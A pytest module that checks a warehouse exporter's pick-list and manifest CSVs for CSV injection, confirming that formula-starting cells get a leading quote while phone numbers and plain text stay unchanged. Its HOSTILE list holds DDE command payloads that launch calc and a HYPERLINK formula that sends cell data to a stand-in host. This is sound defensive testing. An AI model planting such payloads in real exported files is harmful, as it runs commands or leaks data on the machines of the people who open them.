"""CSV files people open in a spreadsheet hold no cell that it would run as a formula (OWASP's
rule for CSV injection), while the tables keep every value exactly."""

import csv
import dataclasses
import re

import polars as pl
import pytest

from tests.documents.night_documents import fulfilled_night, write_night

# each way a cell can start a formula, as landed in descriptions, bins, services or postal codes
HOSTILE = [
    "+cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://example.invalid/?q="&A1,"details")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PHONE_OR_NUMBER = re.compile(r"[+-][0-9 ()./-]*")


def starts_like_a_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: it starts with a trigger and is not a bare phone number."""
    return cell.startswith(TRIGGERS) and not PHONE_OR_NUMBER.fullmatch(cell)


def poisoned(frame: pl.DataFrame, columns: list[str]) -> pl.DataFrame:
    """The frame with the hostile values cycled into its first rows of each column."""
    values = [HOSTILE[i % len(HOSTILE)] for i in range(frame.height)]
    return frame.with_columns(
        pl.when(pl.int_range(pl.len()) < len(HOSTILE))
        .then(pl.Series(values))
        .otherwise(pl.col(column))
        .alias(column)
        for column in columns
    )


@pytest.fixture(scope="module")
def hostile_night():
    night = fulfilled_night()
    return dataclasses.replace(
        night,
        pick_list_lines=poisoned(night.pick_list_lines, ["bin", "description", "sku"]),
        manifest_lines=poisoned(
            night.manifest_lines, ["service", "ship_postal_code", "shipment_id"]
        ),
    )


def cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_no_cell_of_the_pick_lists_or_manifests_starts_like_a_formula(hostile_night, tmp_path):
    paths = write_night(tmp_path, hostile_night, include_pdf=False)
    written = [p for p in paths if p.suffix == ".csv"]

    assert any(p.name.startswith("manifest-") for p in written)
    assert "pick-lists.csv" in {p.name for p in written}
    for path in written:
        starting_like_formulas = [
            cell for row in cells(path) for cell in row if starts_like_a_formula(cell)
        ]
        assert starting_like_formulas == [], path.name


def test_a_neutralised_cell_is_the_exact_value_behind_one_quote(hostile_night, tmp_path):
    write_night(tmp_path, hostile_night, include_pdf=False)
    rows = cells(tmp_path / "pick-lists.csv")
    lines = hostile_night.pick_list_lines.filter(pl.col("warehouse_id") == "WH1")

    for column in ("bin", "description", "sku"):
        position = rows[0].index(column)
        written = sorted(row[position] for row in rows[1:])
        expected = sorted(
            ("'" + value if starts_like_a_formula(value) else value) if value is not None else ""
            for value in lines[column]
        )
        assert written == expected, column


def test_text_and_numbers_that_only_contain_the_signs_are_left_as_they_are(tmp_path):
    from contracts.spreadsheet import spreadsheet_safe

    frame = pl.DataFrame({"text": ["A-1", "a=b", "x@y.z", None], "weight_g": [-5, 0, 1, 2]})

    assert spreadsheet_safe(frame).equals(frame)


def test_a_phone_number_is_written_as_the_channel_gave_it(tmp_path):
    from contracts.spreadsheet import spreadsheet_safe

    frame = pl.DataFrame({"ship_phone": ["+1 617-555-0103", "+44 (0)20 7946 0958", "-5"]})

    assert spreadsheet_safe(frame).equals(frame)
